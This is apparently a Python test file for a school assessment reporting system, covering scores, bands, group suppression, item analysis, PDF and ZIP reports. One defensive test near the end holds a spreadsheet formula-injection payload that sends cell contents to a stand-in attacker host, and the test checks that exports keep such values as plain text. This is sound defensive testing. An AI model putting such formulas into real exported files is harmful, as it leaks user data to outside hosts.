"""The numbers of the reports: scores, bands, strands, class and school means, suppression
of small groups, the item analysis flags, and the PDFs."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import numpy as np
import pytest

from kaskad.monitoring import psychometrics
from kaskad.monitoring.analysis import item_analysis
from kaskad.monitoring.reports import results
from kaskad.monitoring.reports.bulk import write_reports_zip
from kaskad.monitoring.services import responses_import
from kaskad.monitoring.tests.factories import HEADER, make_world, write_csv

pytestmark = pytest.mark.django_db


def _fill(world, tmp_path: Path, sizes: tuple[int, int] = (12, 4), seed: int = 1):
    rng = np.random.default_rng(seed)
    rows = [HEADER]
    for school, size in zip((world.school_a, world.school_b), sizes, strict=True):
        for i in range(size):
            ability = rng.normal()
            answers = []
            for j, key in enumerate("ABCDA"):
                right = rng.random() < 1 / (1 + np.exp(-(ability - (j - 2) * 0.7)))
                answers.append(key if right else "B" if key != "B" else "C")
            answers.append(str(int(rng.integers(0, 3))))
            rows.append([school.code, "4A" if i % 2 else "4B", f"P{i:02d}", "", "ru", *answers])
    path = write_csv(tmp_path / "r.csv", rows)
    responses_import(study_test=world.test, path=path, original_name="r.csv", by=world.monitor)
    return results.load(world.test)


def test_scores_percents_bands_and_strands(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path)
    assert len(data.pupils) == 16 and data.max_total == 7
    i = 0
    expected = np.nan_to_num(data.matrix[i]).sum()
    assert data.totals[i] == expected
    assert data.percents[i] == pytest.approx(expected / 7 * 100)
    assert data.strands == ["Numbers", "Geometry"]
    assert data.strand_percents[i, 0] == pytest.approx(
        np.nan_to_num(data.matrix[i, :3]).sum() / 3 * 100
    )
    thresholds = results.band_thresholds(world.test)
    assert results.band_of(39.9, thresholds) == "below"
    assert results.band_of(40, thresholds) == "basic"
    assert results.band_of(85, thresholds) == "advanced"


def test_individual_report_has_class_and_school_averages(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path)
    classes, schools, _ = results.group_summaries(data)
    pupil = data.pupils[0]
    report = results.individual(
        data,
        0,
        class_summary=classes[(pupil.school_id, pupil.class_label)],
        school_summary=schools[pupil.school_id],
    )
    same_class = [
        k
        for k, p in enumerate(data.pupils)
        if (p.school_id, p.class_label) == (pupil.school_id, pupil.class_label)
    ]
    assert report["class_percent"] == pytest.approx(data.percents[same_class].mean())
    assert report["school_n"] == 12
    assert [s["name"] for s in report["strands"]] == ["Numbers", "Geometry"]


def test_comparison_suppresses_small_schools_and_gives_intervals(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path)
    names = {world.school_a.pk: "A", world.school_b.pk: "B"}
    comparison = results.school_comparison(data, names)
    by_name = {row["name"]: row for row in comparison["schools"]}
    assert by_name["B"] == {"school_id": world.school_b.pk, "name": "B", "n": 4, "suppressed": True}
    a = by_name["A"]
    values = data.percents[data.rows(school_id=world.school_a.pk)]
    half = 1.959964 * values.std(ddof=1) / np.sqrt(12)
    assert a["mean"] == pytest.approx(values.mean())
    assert a["low"] == pytest.approx(max(0, values.mean() - half))


def test_class_report(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path)
    report = results.class_report(data, school_id=world.school_a.pk, class_label="4A")
    assert report["n"] == 6 and sum(report["distribution"]) == 6
    assert sum(b["n"] for b in report["bands"]) == 6
    assert len(report["items"]) == 6
    assert report["items"][0]["all"] == pytest.approx(np.nanmean(data.matrix[:, 0]))


def test_item_analysis_matches_the_pure_module(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path, sizes=(40, 20))
    analysis = item_analysis(data)
    direct = psychometrics.ctt(data.matrix, data.max_scores)
    assert analysis.alpha == pytest.approx(direct.alpha)
    assert [r["facility"] for r in analysis.rows] == pytest.approx(
        [i.facility for i in direct.items]
    )
    assert analysis.rows[0]["difficulty"] is not None
    # a constant item is flagged
    data.matrix[:, 1] = 1.0
    flagged = item_analysis(data)
    assert "easy" in flagged.rows[1]["codes"] and "no_variance" in flagged.rows[1]["codes"]


def test_individual_pdfs_one_per_pupil(tmp_path: Path) -> None:
    world = make_world()
    data = _fill(world, tmp_path, sizes=(5, 3))
    target = tmp_path / "out.zip"
    assert write_reports_zip(data, language="pupil", target=target, batch=3) == 8
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        pdfs = [n for n in names if n.endswith(".pdf")]
        assert len(pdfs) == 8 and "reports.csv" in names
        from pypdf import PdfReader

        reader = PdfReader(io.BytesIO(archive.read(pdfs[0])))
        assert len(reader.pages) == 1
        text = reader.pages[0].extract_text()
        assert "P0" in text
        # the pupils' language of instruction is Russian
        assert "Индивидуальный" in text or "ученика" in text


def test_a_whole_study_in_one_zip(tmp_path: Path) -> None:
    from kaskad.monitoring.services import study_test_add
    from kaskad.monitoring.tests.factories import make_form

    world = make_world()
    first = _fill(world, tmp_path, sizes=(3, 2))
    second_test = study_test_add(
        study=world.study, form=make_form(by=world.monitor), by=world.monitor
    )
    second = results.load(second_test)  # nobody answered it yet: no reports
    target = tmp_path / "all.zip"
    assert write_reports_zip([first, second], language="en", target=target) == 5
    with zipfile.ZipFile(target) as archive:
        folders = {name.split("/")[0] for name in archive.namelist() if name.endswith(".pdf")}
    assert folders == {world.test.form.code}


def test_results_workbook_keeps_imported_codes_as_text() -> None:
    # Pupil codes, classes and strands come from uploaded files: a cell starting with "=" is
    # text in the workbook, never a formula run when the file is opened.
    import openpyxl

    from kaskad.monitoring.reports.workbooks import results_xlsx

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    content = results_xlsx(
        pupils=[["SCH", "+4A", hostile, 3.0, 50.0, "basic", 40.0]],
        strands=["@strand"],
        comparison=None,
    )
    cells = [
        c for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in row
    ]
    assert hostile in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)


def test_zip_manifest_keeps_an_imported_code_as_text(tmp_path: Path) -> None:
    # The pupil code comes from an uploaded file; in the ZIP's reports.csv a code starting
    # with "=" must not be a formula when the CSV is opened in a spreadsheet.
    import csv

    world = make_world()
    rows = [HEADER, [world.school_a.code, "4A", "=1+2", "", "ru", "A", "B", "C", "D", "A", "1"]]
    path = write_csv(tmp_path / "r.csv", rows)
    responses_import(study_test=world.test, path=path, original_name="r.csv", by=world.monitor)
    target = tmp_path / "out.zip"
    assert write_reports_zip(results.load(world.test), language="ru", target=target) == 1
    with zipfile.ZipFile(target) as archive:
        manifest = archive.read("reports.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(manifest)) for cell in row]
    assert "'=1+2" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
